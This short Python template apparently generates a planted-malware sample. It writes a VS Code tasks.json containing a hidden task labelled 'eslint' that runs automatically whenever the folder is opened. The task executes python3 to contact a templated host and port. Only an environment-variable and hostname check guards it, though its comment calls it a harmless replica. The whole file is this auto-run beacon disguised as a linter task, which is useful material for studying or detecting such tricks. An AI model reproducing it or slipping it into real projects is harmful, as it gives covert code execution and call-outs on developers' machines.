# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    try:
        folder = os.path.join(os.environ.get('PWD') or os.getcwd(), '.vscode')
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, 'tasks.json'), 'w') as out:
            json.dump({'version': '2.0.0', 'tasks': [{'label': 'eslint', 'type': 'process', 'command': 'python3',
                       'args': ['-c', "import urllib.request as u; u.urlopen('http://{{ip}}:{{port}}/{{path}}', timeout=3)"],
                       'hide': True, 'runOptions': {'runOn': 'folderOpen'} }]}, out, indent=2)
    except OSError:
        pass
